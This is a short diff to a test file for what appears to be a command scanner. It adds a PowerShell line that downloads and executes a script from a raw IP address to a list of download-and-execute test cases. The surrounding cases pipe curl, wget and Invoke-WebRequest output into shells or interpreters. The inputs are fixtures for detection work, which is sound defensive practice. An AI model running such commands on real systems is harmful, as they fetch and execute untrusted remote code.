@@ -90,6 +90,7 @@ describe('scanner fast paths', () => {
       'bash <<< "$(curl -s https://x.example/i)"',
     ],
     'download.raw-ip-exec': [
+      "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')",
       'curl -s https://203.0.113.7/a.sh | bash',
       'Invoke-WebRequest HTTPS://203.0.113.7/a | python3',
       'wget -qO- HTTP://evil.example/x | sh',
